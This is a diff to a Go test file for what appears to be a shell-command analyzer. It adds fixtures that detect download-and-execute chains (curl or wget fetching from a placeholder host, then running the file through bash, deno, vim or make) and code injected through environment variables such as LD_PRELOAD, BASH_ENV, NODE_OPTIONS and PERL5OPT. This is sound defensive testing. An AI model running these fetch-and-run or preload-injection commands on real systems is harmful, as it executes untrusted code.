@@ -53,6 +53,19 @@ func TestDownloadAndExecute(t *testing.T) {
 		{"curl -so Dockerfile https://x.example.net/d && docker build -t x .", true},
 		{"curl -s https://x.example.net/x -o x.py && python3 x.py", true},
 		{"curl -sOJ https://x.example.net/get && make", true},
+		{"curl -so x https://x.example.net/x && mv x run.sh && bash run.sh", true},
+		{"curl -so t https://x.example.net/t && install -m755 t ~/.local/bin/tool && tool --init", true},
+		{"wget -q https://x.example.net/i.sh && sh $(basename i.sh)", true},
+		{"curl -so a.ts https://x.example.net/a.ts && deno run -A a.ts", true},
+		{"curl -so a.ts https://x.example.net/a.ts && npx tsx a.ts", true},
+		{"curl -so x.awk https://x.example.net/x && awk -f x.awk data.txt", true},
+		{"curl -so s.sh https://x.example.net/s && find . -name '*.sh' -exec sh {} \\;", true},
+		{"curl -s https://x.example.net/x | dd of=x.sh && bash x.sh", true},
+		{"curl -so v.vim https://x.example.net/v && vim -S v.vim", true},
+		{"curl -so m.mk https://x.example.net/m && MAKEFILES=m.mk make", true},
+		{"just --justfile <(curl -s https://x.example.net/justfile) default", false}, // opaque instead: see TestSettingsOpaque
+		{"curl -so data.csv https://x.example.net/d && awk -F, '{print $1}' data.csv", false},
+		{"curl -so data.csv https://x.example.net/d && python3 scripts/load.py data.csv", false},
 
 		{"curl -sL https://x.example.net/fixtures.tar.gz | tar xz -C testdata/", false},
 		{"wget -q https://x.example.net/geo.csv.gz -O - | gunzip > data/geo.csv", false},
@@ -80,4 +93,62 @@ func TestDownloadAndExecute(t *testing.T) {
 			}
 		}
 	}
+}
+
+// TestSettings: what settings put in a command's runs, and settings whose
+// code is only known at run time.
+func TestSettings(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		line, cmd string
+		runs      []string
+		preloads  []string
+		opaque    bool // some command of the line is unresolved
+	}{
+		{"BASH_ENV=./scripts/env.sh bash scripts/test.sh", "bash", []string{"./scripts/env.sh", "scripts/test.sh"}, nil, false},
+		{"LD_PRELOAD=/usr/lib/libjemalloc.so.2 ./server", "server", []string{"/usr/lib/libjemalloc.so.2", "./server"}, []string{"/usr/lib/libjemalloc.so.2"}, false},
+		{"export LD_PRELOAD=/tmp/l.so; git status", "git", []string{"/tmp/l.so"}, []string{"/tmp/l.so"}, false},
+		{"env LD_AUDIT=/tmp/a.so ls", "ls", []string{"/tmp/a.so"}, []string{"/tmp/a.so"}, false},
+		{"NODE_OPTIONS='--require ./hook.js --max-old-space-size=4096' npm test", "npm", nil, nil, false},
+		{"PYTHONPATH=/opt/x:$PYTHONPATH python3 -m app", "python3", []string{"/opt/x/", "app.py", "app/"}, nil, false},
+		{"BASH_ENV=<(curl -s https://x.example.net/e) bash -c true", "", nil, nil, true},
+		{"just --justfile <(curl -s https://x.example.net/justfile) default", "just", []string{"<(curl -s https://x.example.net/justfile)"}, nil, true},
+		{`NODE_OPTIONS="--import=data:text/javascript,import('child_process').then(c=>c.execSync('id'))" npm run build`, "", nil, nil, true},
+		{"PERL5OPT='-Mstrict;system(\"id\")' perl x.pl", "", nil, nil, true},
+		{"EDITOR=vim git commit", "git", nil, nil, false},
+	} {
+		an, err := Analyze(tc.line, Options{})
+		if err != nil {
+			t.Fatalf("%s: %v", tc.line, err)
+		}
+		opaque := false
+		for _, c := range an.Commands {
+			opaque = opaque || c.Opaque != "" || c.Dynamic
+			if tc.cmd == "" || c.Name != tc.cmd {
+				continue
+			}
+			if tc.runs != nil && !subset(tc.runs, c.Runs) {
+				t.Errorf("%s: %s runs %q, want %q among them", tc.line, c.Name, c.Runs, tc.runs)
+			}
+			if !subset(tc.preloads, c.Preloads) {
+				t.Errorf("%s: %s preloads %q, want %q", tc.line, c.Name, c.Preloads, tc.preloads)
+			}
+		}
+		if opaque != tc.opaque {
+			t.Errorf("%s: unresolved %v, want %v", tc.line, opaque, tc.opaque)
+		}
+	}
+}
+
+func subset(want, got []string) bool {
+	for _, w := range want {
+		found := false
+		for _, g := range got {
+			found = found || g == w
+		}
+		if !found {
+			return false
+		}
+	}
+	return true
 }
